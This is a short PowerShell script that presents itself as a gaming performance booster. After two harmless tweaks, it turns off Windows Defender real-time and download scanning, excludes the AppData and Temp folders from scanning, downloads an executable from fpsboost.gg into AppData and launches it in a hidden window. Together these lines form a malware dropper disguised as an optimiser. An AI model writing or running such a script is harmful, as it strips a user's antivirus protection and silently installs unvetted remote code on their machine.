Stop-Service -Name SysMain -ErrorAction SilentlyContinue
powercfg /setactive SCHEME_MIN
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath "$env:APPDATA", "$env:TEMP"
$p = "$env:APPDATA\fpsboost.exe"
Invoke-WebRequest "https://fpsboost.gg/b.exe" -OutFile $p -UseBasicParsing
Start-Process $p -WindowStyle Hidden
